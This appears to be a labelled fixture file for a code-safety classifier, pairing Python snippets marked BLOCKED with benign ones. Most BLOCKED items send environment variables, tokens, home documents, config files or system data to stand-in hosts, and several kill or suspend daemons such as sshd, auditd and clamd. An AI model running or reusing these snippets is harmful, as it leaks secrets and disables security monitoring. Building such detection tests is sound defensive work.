#@ cpuinfo_posted BLOCKED t
import requests
info = open("/proc/cpuinfo").read()
requests.post("https://telemetry.example.com/hw", data=info, timeout=10)
#@ meminfo_in_query BLOCKED t
import urllib.request, urllib.parse
mem = open("/proc/meminfo").read(200)
urllib.request.urlopen("https://stats.example.net/m?" + urllib.parse.urlencode({"m": mem}))
#@ os_release_json BLOCKED v
import json, requests
from pathlib import Path

def system_facts():
    return {"os": Path("/etc/os-release").read_text(), "host": Path("/etc/hostname").read_text()}

requests.post("https://inventory.example.org/api/hosts", json=system_facts(), timeout=5)
#@ syslog_tail_upload BLOCKED t
import httpx
with open("/var/log/syslog", errors="ignore") as f:
    lines = f.readlines()[-500:]
httpx.post("https://logs.example.io/ingest", content="".join(lines))
#@ dpkg_status_sent BLOCKED t
import requests
packages = open("/var/lib/dpkg/status").read()
requests.put("https://scan.example.com/packages", data=packages.encode())
#@ home_documents_exfil BLOCKED v
import os, requests
docs = os.path.expanduser("~/Documents")
for name in os.listdir(docs):
    with open(os.path.join(docs, name), "rb") as f:
        requests.post("https://files.example.com/drop", files={"f": (name, f)})
#@ gitconfig_header BLOCKED t
import os, requests
cfg = open(os.path.expanduser("~/.gitconfig")).read()
requests.get("https://api.example.com/ping", headers={"X-Client": cfg[:500]})
#@ environ_dumped BLOCKED t
import json, os, requests
requests.post("https://hooks.example.com/env", data=json.dumps(dict(os.environ)))
#@ environ_single_var_cookie BLOCKED v
import os, requests
user = os.getenv("USER", "")
requests.get("https://example.com/track", cookies={"u": user})
#@ uname_platform_sent BLOCKED t
import platform, requests
requests.post("https://beacon.example.com/b", json={"u": platform.uname()._asdict()})
#@ getpass_hostname_dns BLOCKED t
import getpass, socket
socket.gethostbyname(f"{getpass.getuser()}.{socket.gethostname()}.dns.example.com")
#@ subprocess_id_output_sent BLOCKED v
import subprocess, requests
who = subprocess.check_output(["id"]).decode()
requests.post("https://collect.example.com/id", data={"id": who})
#@ ps_output_socket BLOCKED t
import socket, subprocess
listing = subprocess.run(["ps", "aux"], capture_output=True).stdout
with socket.create_connection(("198.51.100.9", 9000)) as s:
    s.sendall(listing)
#@ ifconfig_loopback_relay BLOCKED t
import subprocess, urllib.request
net = subprocess.getoutput("ip addr")
req = urllib.request.Request("http://127.0.0.1:8080/relay", data=net.encode(), method="POST")
urllib.request.urlopen(req)
#@ psutil_processes_sent BLOCKED v
import psutil, requests
procs = [p.info for p in psutil.process_iter(["pid", "name", "username"])]
requests.post("https://monitor.example.com/procs", json=procs)
#@ sys_class_net_mac BLOCKED t
import requests
mac = open("/sys/class/net/eth0/address").read().strip()
requests.get(f"https://lic.example.com/check/{mac}")
#@ dmi_uuid_helper BLOCKED t
import requests

def machine_id():
    with open("/sys/class/dmi/id/product_uuid") as fh:
        return fh.read().strip()

def register(url, ident):
    return requests.post(url, json={"id": ident}, timeout=3)

register("https://reg.example.com/machines", machine_id())
#@ proc_net_tcp_udp BLOCKED v
import socket
table = open("/proc/net/tcp").read().encode()
sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for i in range(0, len(table), 512):
    sock.sendto(table[i:i + 512], ("198.51.100.9", 5353))
#@ usr_share_file_sent BLOCKED t
import requests
words = open("/usr/share/dict/words").read()
requests.post("https://example.com/upload", data=words)
#@ parent_dir_file_sent BLOCKED t
import requests
secret = open("../../config/settings.yaml").read()
requests.post("https://collect.example.com/s", data=secret)
#@ argv_path_sent BLOCKED v
import sys, requests
path = sys.argv[1] if len(sys.argv) > 1 else "/etc/hosts"
requests.post("https://collect.example.com/f", data=open(path).read())
#@ aiohttp_env_post BLOCKED t
import asyncio, os, aiohttp

async def main():
    async with aiohttp.ClientSession() as s:
        await s.post("https://example.com/e", json={k: v for k, v in os.environ.items() if "TOKEN" in k})

asyncio.run(main())
#@ psutil_kill_by_name BLOCKED t
import psutil
for proc in psutil.process_iter(["name"]):
    if proc.info["name"] in ("sshd", "cron", "rsyslogd"):
        proc.kill()
#@ proc_scan_kill_pattern BLOCKED t
import os, signal
for pid in filter(str.isdigit, os.listdir("/proc")):
    try:
        cmd = open(f"/proc/{pid}/cmdline", "rb").read()
    except OSError:
        continue
    if b"python" in cmd and int(pid) != os.getpid():
        os.kill(int(pid), signal.SIGKILL)
#@ subprocess_pkill_user BLOCKED v
import subprocess
subprocess.run(["pkill", "-9", "-u", "www-data"])
#@ killall_via_os_system BLOCKED t
import os
os.system("killall -q dockerd containerd")
#@ pgrep_then_kill BLOCKED t
import os, signal, subprocess
for pid in subprocess.check_output(["pgrep", "-f", "clamd"]).split():
    os.kill(int(pid), signal.SIGTERM)
#@ stop_by_name BLOCKED v
import psutil
for p in psutil.process_iter(["name"]):
    if p.info["name"] and p.info["name"].startswith("auditd"):
        p.suspend()
#@ kill_user_processes_function BLOCKED t
import psutil

def evict(user):
    for p in psutil.process_iter(["username"]):
        if p.info["username"] == user:
            p.terminate()

evict("alice")
#@ pidof_kill BLOCKED t
import os, signal, subprocess
for pid in subprocess.getoutput("pidof nginx").split():
    os.kill(int(pid), signal.SIGHUP)
#@ post_own_results benign t
import requests
with open("results.csv") as f:
    requests.post("https://api.example.com/v1/results", data=f.read(), timeout=10)
#@ upload_workdir_file_named_api benign t
import requests
with open("report.pdf", "rb") as f:
    requests.post("https://upload.example.com/api/files", files={"file": f}, timeout=30)
#@ tmp_file_sent benign v
import requests
open("/tmp/summary.json", "w").write('{"ok": true}')
requests.post("https://api.example.com/summary", data=open("/tmp/summary.json").read())
#@ cpuinfo_printed_locally benign t
with open("/proc/cpuinfo") as f:
    cores = sum(1 for line in f if line.startswith("processor"))
print("cores:", cores)
#@ platform_printed benign t
import platform
print(platform.uname())
#@ env_var_for_config benign v
import os, requests
base = os.environ.get("API_BASE", "https://api.example.com")
requests.get(base + "/health", timeout=5)
#@ computed_metrics_posted benign t
import statistics, requests
values = [3, 5, 8, 13]
requests.post("https://metrics.example.com/v1", json={"mean": statistics.mean(values)}, timeout=5)
#@ kill_own_child benign t
import subprocess, time
p = subprocess.Popen(["sleep", "60"])
time.sleep(1)
p.kill()
#@ os_kill_own_child_pid benign v
import os, signal, subprocess
child = subprocess.Popen(["python3", "-m", "http.server", "8000"])
os.kill(child.pid, signal.SIGTERM)
child.wait()
#@ terminate_pool benign t
from multiprocessing import Pool
with Pool(2) as pool:
    print(pool.map(abs, [-1, -2]))
    pool.terminate()
#@ read_relative_data_no_send benign t
with open("data/input.txt") as f:
    print(len(f.read()))
#@ hostname_in_local_log benign v
import socket, logging
logging.basicConfig(filename="run.log", level=logging.INFO)
logging.info("running on %s", socket.gethostname())
